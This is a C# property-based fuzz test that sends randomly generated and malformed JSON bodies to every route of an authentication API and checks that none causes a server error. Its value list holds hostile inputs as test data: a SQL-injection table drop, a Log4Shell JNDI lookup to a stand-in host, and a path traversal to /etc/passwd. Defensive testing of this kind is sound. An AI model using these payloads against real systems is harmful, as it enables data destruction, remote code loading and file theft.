using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using CognitoAuth.IntegrationTests.Support;
using CognitoAuth.Tests.Shared;
using FsCheck;
using FsCheck.Fluent;

namespace CognitoAuth.IntegrationTests.Api.Http;

/// <summary>Random bodies at every address. <see cref="MalformedRequestTests"/> has chosen ones.</summary>
public sealed class AnyBodyTests(HiddenApi hidden) : IClassFixture<HiddenApi>
{
    [PropertyOfMany(400, Arbitrary = [typeof(Bodies)])]
    public async Task Any_body_gets_a_response_that_is_not_a_server_error(NonNegativeInt address, Body body)
    {
        var routes = hidden.Api.BodyRoutes();
        var route = routes[address.Get % routes.Count];
        using var request = new HttpRequestMessage(route.Method, route.Path) { Content = new ByteArrayContent(Encoding.UTF8.GetBytes(body.Text)) };
        request.Content.Headers.ContentType = new MediaTypeHeaderValue("application/json");

        var response = await hidden.Api.Send(request);

        // 501, a feature that the pool does not have, is the only refusal that is not the caller's fault.
        if (response.Status != 501) response.Status.ShouldBeLessThan(500, $"{route}: {response.Text}");
        if (response.Status >= 400) response.ShouldBeProblem(response.Status, response.Code!);
        hidden.Api.Log.Lines.ShouldNotContain(line => line.Contains("\"@l\":\"Error\"", StringComparison.Ordinal));
    }

    /// <summary>A body.</summary>
    public sealed record Body(string Text);

    /// <summary>Objects with the contract's members and values of any kind. Some are truncated, or have an extra character.</summary>
    public static class Bodies
    {
        private static readonly string[] Members =
        [
            "username", "password", "code", "newPassword", "currentPassword", "keepSessions", "refreshToken", "scope", "session", "method", "srpA", "srp", "deviceKey", "deviceName", "name", "choice", "answer",
            "credential", "responses", "attributes", "validationData", "clientMetadata", "totp", "sms", "email", "remembered", "secretVerifier", "clientId", "clientSecret", "scopes",
        ];

        private static readonly string[] Values =
        [
            "null", "true", "0", "-1", "1e400", "12345678901234567890123", "\"\"", "\"jane\"", "\"jane@example.com\"", "\"+15551234567\"", "\"Correct-horse-1\"", "\"123456\"", "\"session\"", "\"everywhere\"",
            "\"password\"", "\"choice\"", "\"email_otp\"", "\"srp\"", "\"custom\"", "\"passkey\"", "\"PASSWORD_VERIFIER\"", "\"NEW_PASSWORD_REQUIRED\"", "\"SELECT_CHALLENGE\"", "\"SOFTWARE_TOKEN_MFA\"",
            "\"\\u0000\"", "\"\\ud800\"", "\"\\ud83d\\ude00\"", "\"\\u202e\\u200b\"", "\"a b\"", "\"'; DROP TABLE users; --\"", "\"${jndi:ldap://evil.example}\"", "\"../../etc/passwd\"", "\"A.B.C\"", "\"ffff\"",
            $"\"{new string('x', 3_000)}\"", $"\"{new string('é', 128)}\"",
        ];

        /// <summary>Called by the framework.</summary>
        public static Arbitrary<Body> Arbitrary() => Gen.Frequency(
            (6, Object(2)),
            (1, from text in Object(2) from length in Gen.Choose(0, 200) select text[..Math.Min(length, text.Length)]),
            (1, from text in Object(2) from at in Gen.Choose(0, 200) from character in Gen.Elements("{}[],:\"\\\0\n".ToCharArray()) select text.Insert(Math.Min(at, text.Length), character.ToString())),
            (1, Gen.Elements(Values))).Select(text => new Body(text)).ToArbitrary();

        private static Gen<string> Object(int depth) =>
            from names in Gen.SubListOf(Members)
            from values in Value(depth).ArrayOf(names.Count)
            select $"{{{string.Join(',', names.Zip(values, (name, value) => $"{JsonSerializer.Serialize(name)}:{value}"))}}}";

        private static Gen<string> Value(int depth) => depth == 0
            ? Gen.Elements(Values)
            : Gen.Frequency((8, Gen.Elements(Values)), (1, Object(depth - 1)), (1, Value(depth - 1).ArrayOf(3).Select(values => $"[{string.Join(',', values)}]")));
    }
}
